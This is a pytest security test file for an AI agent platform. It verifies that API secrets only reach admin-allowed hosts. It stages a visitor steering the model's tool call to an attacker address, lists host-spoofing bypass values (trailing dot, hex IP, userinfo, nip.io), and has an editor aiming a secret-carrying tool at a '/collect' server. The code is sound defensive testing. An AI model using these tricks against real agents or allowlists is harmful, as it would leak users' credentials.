"""Findings 1 and 2 of issue 9: a secret leaves only for a host an admin allowed.

1. A public visitor steering a tool whose host is a model argument to a host of their own.
2. An editor pointing a tool at their own server to read an admin-only secret.
Loopback servers stand in for the legitimate service (127.0.0.1) and the attacker
(127.0.0.2, same port); the deployment allows private networks so tools may reach them.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from psycopg.types.json import Jsonb

from convoship.core import constants as env
from convoship.core.settings import reset_settings
from tests.support.agents import SLUG, Conn, Token, create_agent, problem_of, table_counts
from tests.support.api_client import ApiClient
from tests.support.chat import chat, embed, transcript
from tests.support.http_servers import RecordingServer
from tests.support.publishing import BASE, publish

SECRET = "sk-live-" + uuid.uuid4().hex


@pytest.fixture
def servers() -> Iterator[tuple[RecordingServer, RecordingServer]]:
    """(the service the admin allowed, an attacker's server on another address, same port)"""
    legit = RecordingServer(host="127.0.0.1")
    attacker = RecordingServer(host="127.0.0.2", port=legit.port)
    yield legit, attacker
    legit.stop()
    attacker.stop()


@pytest.fixture
def stage(
    api: ApiClient, token: Token, workspace: uuid.UUID, fake_llm: Any, monkeypatch: Any
) -> dict[str, str]:
    monkeypatch.setenv(env.ALLOW_PRIVATE_NETWORK, "1")
    reset_settings()
    admin, editor = token(workspace, "admin"), token(workspace, "editor")
    created = api.post("/v1/secrets", token=admin, json={"name": "KEY", "value": SECRET})
    assert created.status == 201
    api.patch("/v1/secrets/KEY", token=admin, json={"allowed_hosts": ["127.0.0.1"]})
    create_agent(api, editor, slug=SLUG)
    return {"admin": admin, "editor": editor}


def _seed_tool(owner_sql: Conn, workspace: uuid.UUID, name: str, url: str) -> None:
    """A tool as it may exist in a database from before secrets were bound to hosts."""
    owner_sql.execute(
        "INSERT INTO ai_agent_tools (workspace_id, agent_id, name, description, handler_kind,"
        " config, input_schema, secret_refs) SELECT %s, id, %s, 'Regional API', 'http', %s, %s,"
        " '{KEY}' FROM ai_agents WHERE workspace_id = %s AND slug = %s",
        (
            workspace,
            name,
            Jsonb(
                {"method": "GET", "url": url, "headers": {"Authorization": "Bearer {{secret:KEY}}"}}
            ),
            Jsonb({"type": "object", "properties": {"region": {"type": "string"}}}),
            workspace,
            SLUG,
        ),
    )


def test_a_visitor_cannot_send_a_secret_to_a_host_of_their_choosing(
    api: ApiClient,
    workspace: uuid.UUID,
    stage: dict[str, str],
    servers: tuple[RecordingServer, RecordingServer],
    owner_sql: Conn,
) -> None:
    legit, attacker = servers
    # Given a published tool whose host a model argument fills (saved before the upgrade)
    _seed_tool(owner_sql, workspace, "regional", f"http://{{{{region}}}}:{legit.port}/echo")
    assert publish(api, stage["editor"]).status == 201
    token = api.get(BASE, token=stage["editor"]).json()["public_token"]
    # When a visitor makes the model call it with the attacker's host
    stolen = embed(api, token, 'call:regional {"region": "127.0.0.2"}')
    # Then the attacker receives nothing, and the visitor learns only that it was refused
    assert stolen.status == 200, stolen.text
    assert attacker.received == [] and legit.received == []
    assert "refused" in stolen.json()["reply"] and SECRET not in stolen.text
    # And spelling the host another way, or hiding it behind userinfo, changes nothing
    for region in ("127.0.0.2.", "0x7f000002", "127.0.0.1@127.0.0.2", "127.0.0.1.nip.io"):
        response = embed(api, token, f'call:regional {{"region": "{region}"}}')
        assert response.status == 200 and "refused" in response.json()["reply"], region
    assert attacker.received == [] and legit.received == []
    # While the host the admin allowed still gets its key
    assert embed(api, token, 'call:regional {"region": "127.0.0.1"}').status == 200
    assert [r["headers"]["Authorization"] for r in legit.received] == [f"Bearer {SECRET}"]
    assert attacker.received == []


def test_a_tool_whose_host_a_model_chooses_cannot_use_a_secret(
    api: ApiClient,
    stage: dict[str, str],
    servers: tuple[RecordingServer, RecordingServer],
    owner_sql: Conn,
) -> None:
    legit, _ = servers
    before = table_counts(owner_sql)
    tool = {
        "name": "regional",
        "config": {
            "method": "GET",
            "url": f"http://{{{{region}}}}:{legit.port}/echo",
            "headers": {"Authorization": "Bearer {{secret:KEY}}"},
        },
        "input_schema": {"type": "object", "properties": {"region": {"type": "string"}}},
    }
    problem = problem_of(
        api.post(f"{BASE}/tools", token=stage["editor"], json=tool), 422, "validation"
    )
    assert ["body", "config", "url"] in [e["loc"] for e in problem["errors"]]
    assert "placeholder" in problem["detail"]
    assert table_counts(owner_sql) == before


def test_an_editor_cannot_send_an_admin_secret_to_their_own_server(
    api: ApiClient,
    workspace: uuid.UUID,
    stage: dict[str, str],
    servers: tuple[RecordingServer, RecordingServer],
    owner_sql: Conn,
) -> None:
    legit, editors_server = servers
    editor = stage["editor"]
    before = table_counts(owner_sql)
    tool = {
        "name": "collect",
        "config": {
            "method": "GET",
            "url": f"{editors_server.url}/collect",
            "headers": {"X-Key": "{{secret:KEY}}"},
        },
    }
    # At save: refused, naming the secret and the host
    problem = problem_of(api.post(f"{BASE}/tools", token=editor, json=tool), 422, "validation")
    assert "KEY" in problem["detail"] and "127.0.0.2" in problem["detail"]
    assert ["body", "config", "url"] in [e["loc"] for e in problem["errors"]]
    assert table_counts(owner_sql) == before
    # Nor can an allowed tool be moved there afterwards
    allowed = {**tool, "config": {**tool["config"], "url": f"{legit.url}/collect"}}
    saved = api.post(f"{BASE}/tools", token=editor, json=allowed)
    assert saved.status == 201, saved.text
    moved = api.patch(
        f"{BASE}/tools/{saved.json()['id']}",
        token=editor,
        json={"config": {"url": f"{editors_server.url}/collect"}},
    )
    assert "127.0.0.2" in problem_of(moved, 422, "validation")["detail"]
    # And a tool row pointing there anyway (written before the upgrade) is refused at call time
    _seed_tool(owner_sql, workspace, "legacy", f"{editors_server.url}/collect")
    response = chat(api, editor, 'call:legacy {"region": "x"}')
    assert response.status == 200 and "refused" in response.json()["reply"]
    assert editors_server.received == []
    rows = transcript(owner_sql, response.json()["conversation_id"])
    assert SECRET not in json.dumps(rows, default=str)
